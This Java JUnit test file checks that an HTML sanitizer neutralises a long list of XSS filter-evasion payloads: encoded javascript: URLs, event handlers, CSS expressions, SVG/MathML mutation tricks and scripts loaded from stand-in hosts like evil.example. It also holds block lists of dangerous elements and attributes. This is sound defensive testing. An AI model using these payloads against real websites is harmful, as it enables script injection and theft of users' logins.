package dev.gleaner.content;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.Locale;
import java.util.Set;
import java.util.regex.Pattern;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.Nested;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * Filter-evasion attacks, in the manner of OWASP's cheat sheet and of the mutation (mXSS) attacks
 * on sanitizers: whatever the input, the output holds nothing that can run, load a document,
 * submit data or take over the page, and reading the output again gives the same output.
 */
class HtmlSanitizerAttackTest {
    private static final String BASE = "https://example.com/post/1";
    private static final HtmlSanitizer SANITIZER = new HtmlSanitizer();

    private static final Set<String> FORBIDDEN_ELEMENTS = Set.of("script", "style", "iframe", "frame", "frameset",
            "object", "embed", "applet", "param", "form", "input", "button", "select", "option", "textarea", "meta",
            "base", "link", "noscript", "template", "foreignobject", "animate", "set", "use", "image", "mglyph",
            "malignmark", "annotation-xml", "xmp", "plaintext", "noembed", "noframes", "title");
    private static final Set<String> URL_ATTRIBUTES = Set.of("href", "src", "xlink:href", "poster", "background",
            "cite", "action", "formaction", "data", "codebase", "lowsrc", "dynsrc", "ping");
    private static final Pattern SAFE_URL = Pattern.compile(
            "(?i)(https?:|mailto:|tel:|ftp:|data:image/(png|gif|jpeg|webp)[;,]|[^:/?#]*([/?#]|$)).*", Pattern.DOTALL);

    @Nested
    class ScriptUrls {
        @ParameterizedTest
        @ValueSource(strings = {
            "<IMG SRC=JaVaScRiPt:alert(1)>",
            "<IMG SRC=javascript:alert(&quot;XSS&quot;)>",
            "<IMG SRC=`javascript:alert(1)`>",
            "<IMG SRC=\"jav\tascript:alert(1);\">",
            "<IMG SRC=\"jav&#x09;ascript:alert(1);\">",
            "<IMG SRC=\"jav&#x0A;ascript:alert(1);\">",
            "<IMG SRC=\"jav&#x0D;ascript:alert(1);\">",
            "<IMG SRC=\" &#14;  javascript:alert(1);\">",
            "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;1&#41;>",
            "<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)>",
            "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x31&#x29>",
            "<a href=\"&#14; javascript:alert(1)\">x</a>",
            "<a href=\"&#x20;&#x0;javascript:alert(1)\">x</a>",
            "<a href=\"javascript&colon;alert(1)\">x</a>",
            "<a href=\"java&Tab;script:alert(1)\">x</a>",
            "<a href=\"java&NewLine;script:alert(1)\">x</a>",
            "<a href=\"java\u0000script:alert(1)\">x</a>",
            "<a href=\"  JAVASCRIPT:alert(1)  \">x</a>",
            "<a href=\"vbscript:msgbox(1)\">x</a>",
            "<a href=\"livescript:alert(1)\">x</a>",
            "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
            "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
            "<img src=\"data:text/html,<script>alert(1)</script>\">",
            "<img srcset=\"javascript:alert(1) 1x, vbscript:x 2x\">",
            "<video poster=\"javascript:alert(1)\" src=\"javascript:alert(1)\"></video>",
            "<audio src=\"data:audio/wav;base64,AAAA\"></audio>",
            "<table background=\"javascript:alert(1)\"><tr><td>x</td></tr></table>",
            "<blockquote cite=\"javascript:alert(1)\">q</blockquote>",
            "<map name=m><area href=\"javascript:alert(1)\" shape=rect coords=0,0,9,9></map>",
            "<a href=\"x:alert(1)\">unknown scheme</a>",
        })
        void areRemoved(String attack) {
            assertHarmless(attack);
        }
    }

    @Nested
    class EventHandlersAndActiveElements {
        @ParameterizedTest
        @ValueSource(strings = {
            "<img src=x onerror=alert(1)>",
            "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\">",
            "<svg onload=alert(1)>",
            "<svg/onload=alert(1)>",
            "<body onload=alert(1)>text",
            "<BODY ONLOAD=alert(1)>text",
            "<div onmouseover=\"alert(1)\" ONCLICK=alert(1) oNfOcUs=alert(1)>x</div>",
            "<details open ontoggle=alert(1)>x</details>",
            "<SCRIPT SRC=http://evil.example/xss.js></SCRIPT>",
            "<SCRIPT/XSS SRC=\"http://evil.example/xss.js\"></SCRIPT>",
            "<<SCRIPT>alert(1);//\\<</SCRIPT>",
            "<SCRIPT>a=/XSS/\nalert(a.source)</SCRIPT>",
            "<iframe src=\"javascript:alert(1)\"></iframe>",
            "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>",
            "<FRAMESET><FRAME SRC=\"javascript:alert(1);\"></FRAMESET>",
            "<object data=\"javascript:alert(1)\"></object>",
            "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"http://evil.example/scriptlet.html\"></OBJECT>",
            "<EMBED SRC=\"data:image/svg+xml;base64,PHN2Zz48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+\">",
            "<applet code=\"evil.class\"></applet>",
            "<form action=\"https://evil.example/\"><input name=password><button>Log in</button></form>",
            "<button form=search formaction=\"javascript:alert(1)\">x</button>",
            "<textarea form=comment name=body>spam</textarea>",
            "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
            "<base href=\"javascript:alert(1)//\"><a href=\"x\">x</a>",
            "<link rel=stylesheet href=\"http://evil.example/xss.css\">",
            "<style>@import 'http://evil.example/xss.css';</style>",
            "<STYLE>li {list-style-image: url(\"javascript:alert(1)\");}</STYLE><UL><LI>x</LI></UL>",
            "<template><img src=x onerror=alert(1)></template>",
            "<a href=\"https://example.org/\" ping=\"https://tracker.example/\">x</a>",
            "<div tabindex=0 accesskey=x contenteditable autofocus onfocus=alert(1)>x</div>",
        })
        void areRemoved(String attack) {
            assertHarmless(attack);
        }
    }

    @Nested
    class InlineStyles {
        @ParameterizedTest
        @ValueSource(strings = {
            "<div style=\"background-image: url(javascript:alert(1))\">x</div>",
            "<div style=\"background: url('http://tracker.example/pixel.gif')\">x</div>",
            "<div style=\"width: expression(alert(1))\">x</div>",
            "<div style=\"xss:expr/*XSS*/ession(alert(1))\">x</div>",
            "<div style=\"behavior: url(xss.htc)\">x</div>",
            "<div style=\"-moz-binding: url(http://evil.example/xss.xml#xss)\">x</div>",
            "<div style=\"color: re\\64; background: u\\72l(x)\">x</div>",
            "<div style=\"position: fixed; top: 0; left: 0; z-index: 9999; width: 100%; height: 100%\">x</div>",
            "<div style=\"margin-top: -999px\">x</div>",
            "<div style=\"font-family: 'a;b'; color: red\">x</div>",
            "<div style=\"color: red; } body { background: red\">x</div>",
        })
        void keepNothingThatLoadsRunsOrCoversThePage(String attack) {
            String output = sanitized(attack);
            assertHarmless(attack);
            assertThat(output.toLowerCase(Locale.ROOT))
                    .doesNotContain("url(", "expression", "behavior", "binding", "position", "z-index", "-999", "}");
        }
    }

    @Nested
    class NamespaceConfusion {
        @ParameterizedTest
        @ValueSource(strings = {
            "<svg><script>alert(1)</script></svg>",
            "<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"20\" y=\"20\">x</text></a></svg>",
            "<svg><a href=\"javascript:alert(1)\"><text>x</text></a></svg>",
            "<svg><animate attributeName=\"href\" values=\"javascript:alert(1)\"/></svg>",
            "<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>",
            "<svg><set attributeName=\"onmouseover\" to=\"alert(1)\"/></svg>",
            "<svg><use href=\"data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=#x\"/></svg>",
            "<svg><foreignObject><iframe src=\"javascript:alert(1)\"></iframe></foreignObject></svg>",
            "<svg><style>@import url(//evil.example/x.css)</style></svg>",
            "<svg><rect fill=\"url(https://tracker.example/p.svg#g)\" width=\"9\"/></svg>",
            "<svg><image href=\"https://tracker.example/p.png\"/></svg>",
            "<math href=\"javascript:alert(1)\">x</math>",
            "<math><maction actiontype=\"statusline\" xlink:href=\"javascript:alert(1)\">x</maction></math>",
            "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
            "<math><mtext><mglyph><svg><mtext><style><path id=\"</style><img onerror=alert(1) src>\">",
            "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
            "<math><annotation-xml encoding=\"text/html\"><img src=x onerror=alert(1)></annotation-xml></math>",
            "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
            "<svg><p><style><a id=\"</style><img src=1 onerror=alert(1)>\"></p></svg>",
            "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></p></noscript>",
            "<title><img src=x onerror=alert(1)></title>",
            "<xmp><img src=x onerror=alert(1)></xmp>",
            "<noembed><img src=x onerror=alert(1)></noembed>",
            "<iframe><iframe><img src=x onerror=alert(1)></iframe></iframe>",
            "<p>a<!-- --><img src=x onerror=alert(1)>-->b</p>",
            "<p>sa<!-- -- x >fe<script>alert(1)</script></p>",
            "<!--[if gte IE 4]><SCRIPT>alert(1);</SCRIPT><![endif]-->",
            "<a title=\"&lt;/a&gt;&lt;img src=x onerror=alert(1)&gt;\">x</a>",
        })
        void cannotSmuggleMarkup(String attack) {
            assertHarmless(attack);
        }
    }

    private static String sanitized(String html) {
        return SANITIZER.sanitize(html, BASE);
    }

    /** The output of {@code attack} holds nothing active, and sanitizing it again changes nothing. */
    private static void assertHarmless(String attack) {
        String output = sanitized(attack);
        assertThat(sanitized(output)).as("the output of %s read again", attack).isEqualTo(output);
        for (Element element : Jsoup.parseBodyFragment(output).body().getAllElements()) {
            assertThat(FORBIDDEN_ELEMENTS).as("element <%s> in %s", element.normalName(), output)
                    .doesNotContain(element.normalName());
            for (Attribute attribute : element.attributes()) {
                String key = attribute.getKey().toLowerCase(Locale.ROOT);
                assertThat(key).as("attribute of <%s> in %s", element.normalName(), output)
                        .doesNotStartWith("on").isNotIn("srcdoc", "ping", "formaction", "action", "tabindex",
                                "accesskey", "contenteditable");
                if (URL_ATTRIBUTES.contains(key)) {
                    assertThat(UrlPolicy.normalized(attribute.getValue())).as("%s in %s", key, output)
                            .matches(SAFE_URL);
                }
                if (key.equals("srcset")) {
                    assertThat(attribute.getValue()).as("srcset in %s", output).doesNotContainIgnoringCase("script:");
                }
            }
        }
    }
}
